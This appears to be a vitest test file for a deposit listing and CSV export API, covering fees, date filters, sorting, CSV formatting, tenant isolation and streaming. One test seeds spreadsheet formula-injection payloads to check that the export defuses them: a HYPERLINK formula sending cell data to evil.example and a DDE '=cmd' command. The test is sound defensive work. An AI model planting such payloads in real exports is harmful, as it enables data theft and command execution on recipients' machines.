import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, test } from "vitest";
import { depositExport } from "@/lib/contracts/deposit-export";
import { adminDb } from "../support/admin-db";
import { call, handlerOf, ok } from "../support/client";
import { Signed } from "./bad-input/signed";

let owner: Signed;
let stranger: Signed;

const HEADS =
  "Date,Account,QuickBooks ID,Total Amount,Status,Currency,Processor,Payout ID,Deposit,Processor Account";

beforeAll(async () => {
  [owner, stranger] = [await Signed.create(), await Signed.create()];
});

interface Seed {
  providerId: string;
  date: string;
  amount: bigint;
  quickbooksId?: string;
  currency?: string;
}

async function seed(signed: Signed, { date, ...deposit }: Seed): Promise<number> {
  const { companyId } = signed.owner;
  const { id: integrationId } = await adminDb().integration.findFirstOrThrow({
    where: { companyId, provider: "stripe" },
  });
  const { id } = await adminDb().deposit.create({
    data: {
      companyId,
      integrationId,
      payoutStatus: "paid",
      txnDate: new Date(date),
      currency: "USD",
      itemized: false,
      ...(deposit.quickbooksId && { status: "posted" as const }),
      ...deposit,
    },
  });
  return id;
}

async function clear(signed: Signed): Promise<void> {
  await adminDb().deposit.deleteMany({ where: { companyId: signed.owner.companyId } });
}

const list = (query: string) => ok("GET", `/qb/deposit-status/${query}`, owner.token);
const idsOf = (body: { deposits: { id: number }[] }) => body.deposits.map(({ id }) => id);

async function download(query = "", token = owner.token) {
  const handler = await handlerOf("GET", `/api${depositExport.path}`);
  const address = `http://localhost:3000/api${depositExport.path}${query}`;
  const answer = await handler(new Request(address, { headers: { authorization: token } }));
  return { answer, text: await answer.text() };
}

const rowsOf = (text: string): Record<string, string>[] =>
  parse(text, { columns: true, bom: true });

test("the fees of a payout without lines are those of its match, as in its proof", async () => {
  await clear(owner);
  const depositId = await seed(owner, {
    providerId: "po_whole",
    date: "2026-02-03",
    amount: 9_680n,
  });
  const money = { companyId: owner.owner.companyId, depositId, currency: "USD" };
  const { id: matchId } = await adminDb().match.create({
    data: {
      ...{ ...money, probability: 0.9, live: true, state: "proposed", origin: "suggestion" },
      kind: "one_to_one",
    },
  });
  const fee = { ...money, matchId, accountId: "", accountName: "", description: "Processing fees" };
  await adminDb().depositAdjustment.create({ data: { ...fee, amount: -320n } });
  await adminDb().depositAdjustment.create({
    data: { ...fee, amount: -5n, accountId: "9", description: "A difference, which is no fee" },
  });
  const { deposit, proof } = await ok("GET", `/qb/deposit/?deposit_id=${depositId}`, owner.token);
  expect([deposit.fees, proof.fees]).toEqual(["3.20", "-3.20"]);
  const { deposits, totals } = await list("?page_size=10&totals=yes&from=2026-02-03");
  expect([deposits[0].fees, totals[0].fees]).toEqual(["3.20", "3.20"]);
  await adminDb().match.update({
    where: { companyId_id: { companyId: money.companyId, id: matchId } },
    data: { state: "dismissed", live: false, decidedAt: new Date() },
  });
  expect((await list("")).deposits[0].fees).toBe("0.00");
});

describe("the range of dates", () => {
  let days: number[];
  beforeAll(async () => {
    await clear(owner);
    days = [];
    for (const date of ["2026-01-31", "2026-02-01", "2026-02-28", "2026-03-01"]) {
      days.push(await seed(owner, { providerId: `po_${date}`, date, amount: 100n }));
    }
  });

  test.each([
    ["from=2026-02-01&to=2026-02-28", [1, 2]],
    ["from=2026-02-28", [2, 3]],
    ["to=2026-01-31", [0]],
    ["from=2026-03-01&to=2026-01-31", []],
    ["from=2026-02-01&to=2026-02-01", [1]],
    ["from=2026-02-01&q=PO_2026-02", [1, 2]],
    ["from=2026-02-01&status=matched", []],
  ] as const)("%s", async (query, expected) => {
    const body = await list(`?sort=date&page=1&page_size=2&${query}`);
    const wanted = expected.map((index) => days[index]);
    expect(body.total).toBe(wanted.length);
    expect(idsOf(body)).toEqual(wanted.slice(0, 2));
    expect(
      rowsOf((await download(`?sort=date&${query}`)).text).map(({ Deposit }) => Deposit),
    ).toEqual(wanted.map(String));
  });

  test.each(["from=2026-02-30", "to=01-02-2026", "from=0000-01-01", "to=2026-02-01T00:00:00Z"])(
    "%s is refused by name",
    async (query) => {
      for (const path of ["/qb/deposit-status/", depositExport.path]) {
        const { status, body } = await call("GET", `${path}?${query}`, { token: owner.token });
        expect(status).toBe(400);
        expect(Object.keys(body.fields)).toEqual([query.split("=")[0]]);
      }
    },
  );
});

describe("the order", () => {
  test("QuickBooks' ids sort as numbers, and unposted deposits come last both ways", async () => {
    await clear(owner);
    const of = (quickbooksId?: string) =>
      seed(owner, {
        providerId: `po_${quickbooksId}`,
        date: "2026-01-01",
        amount: 1n,
        ...(quickbooksId && { quickbooksId }),
      });
    const [big, small, none] = [await of("1043"), await of("99"), await of()];
    expect(idsOf(await list("?sort=quickbooks_id"))).toEqual([small, big, none]);
    expect(idsOf(await list("?sort=-quickbooks_id"))).toEqual([big, small, none]);
  });
});

describe("the export", () => {
  test("is a file download, with decimal amounts and ISO dates", async () => {
    await clear(owner);
    const posted = { quickbooksId: "1043", date: "2026-02-01" };
    const a = await seed(owner, { ...posted, providerId: "po_a", amount: 123_456_789n });
    const b = await seed(owner, { providerId: "po_b", date: "2026-01-02", amount: -50n });
    const yen = { date: "2026-01-01", amount: 500n, currency: "JPY" };
    const c = await seed(owner, { ...yen, providerId: "po_c" });
    const { displayName: name } = await adminDb().integration.findFirstOrThrow({
      where: { companyId: owner.owner.companyId, provider: "stripe" },
    });
    const { answer, text } = await download();
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      "content-type": "text/csv; charset=utf-8",
      "content-disposition": 'attachment; filename="deposits.csv"',
      "x-content-type-options": "nosniff",
      "cache-control": "no-store",
    });
    expect(text.split("\r\n")).toEqual([
      HEADS,
      `2026-02-01,,1043,1234567.89,posted,USD,Stripe,po_a,${a},${name}`,
      `2026-01-02,,,-0.50,pending,USD,Stripe,po_b,${b},${name}`,
      `2026-01-01,,,500.00,pending,JPY,Stripe,po_c,${c},${name}`,
      "",
    ]);
  });

  test("holds no formula, and names with commas, quotes and line breaks round-trip", async () => {
    await clear(owner);
    const names = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+1+1",
      "-2+3",
      "@SUM(A1:A9)",
      "  =1+1",
      "＝1+1",
      "\t=1+1",
      'Böhm, "Sons"\nLtd.',
    ];
    for (const [index, providerId] of names.entries()) {
      await seed(owner, { providerId, date: `2026-01-0${index + 1}`, amount: 1n });
    }
    await adminDb().integration.updateMany({
      where: { companyId: owner.owner.companyId, provider: "quickbooks" },
      data: {
        status: "connected",
        credentials: new Uint8Array([1]),
        settings: { bankId: "1", bankName: "=cmd|' /C calc'!A0", bankCurrency: "USD" },
      },
    });
    const rows = rowsOf((await download("?sort=date")).text);
    expect(rows.map((row) => row["Payout ID"])).toEqual(
      names.map((name, index) => (index < 7 ? `'${name}` : name)),
    );
    expect(new Set(rows.map((row) => row.Account))).toEqual(new Set(["'=cmd|' /C calc'!A0"]));
    for (const row of rows) expect(row["Total Amount"]).toBe("0.01");
    await adminDb().integration.updateMany({
      where: { companyId: owner.owner.companyId, provider: "quickbooks" },
      data: { status: "disconnected", credentials: null },
    });
  });

  test("holds no other company's rows", async () => {
    await seed(stranger, { providerId: "po_theirs", date: "2026-01-01", amount: 1n });
    const { text } = await download();
    expect(text).not.toContain("po_theirs");
    expect((await download("?q=theirs")).text).toBe(`${HEADS}\r\n`);
  });

  test("ten thousand rows arrive in parts, each once and in order", async () => {
    await clear(owner);
    const { companyId } = owner.owner;
    await adminDb().$executeRaw`
      INSERT INTO deposits (company_id, integration_id, provider_id, payout_status, txn_date, amount,
        currency, itemized)
      SELECT ${companyId}::uuid, id, 'po_' || n, 'paid', date '2020-01-01' + n / 10, n, 'USD', false
      FROM integrations, generate_series(1, 10000) n
      WHERE company_id = ${companyId}::uuid AND provider = 'stripe'`;
    const handler = await handlerOf("GET", `/api${depositExport.path}`);
    const address = `http://localhost:3000/api${depositExport.path}?sort=amount`;
    const request = new Request(address, { headers: { authorization: owner.token } });
    const parts: string[] = [];
    const decoder = new TextDecoder();
    const bytes: Uint8Array[] = [];
    for await (const part of (await handler(request)).body ?? []) bytes.push(part);
    // Excel detects UTF-8 by its byte order mark.
    expect([...(bytes[0]?.slice(0, 3) ?? [])]).toEqual([0xef, 0xbb, 0xbf]);
    parts.push(...bytes.map((part) => decoder.decode(part)));
    expect(parts.length).toBe(41);
    const rows = rowsOf(parts.join(""));
    expect(rows.map((row) => row["Payout ID"])).toEqual(
      Array.from({ length: 10_000 }, (_, index) => `po_${index + 1}`),
    );
    expect(rows.at(-1)?.["Total Amount"]).toBe("100.00");
  });

  test("stops reading when the client disconnects", async () => {
    const handler = await handlerOf("GET", `/api${depositExport.path}`);
    const address = `http://localhost:3000/api${depositExport.path}`;
    const answer = await handler(new Request(address, { headers: { authorization: owner.token } }));
    const reader = answer.body?.getReader();
    expect((await reader?.read())?.done).toBe(false);
    await reader?.cancel();
    expect((await reader?.read())?.done).toBe(true);
  });
});
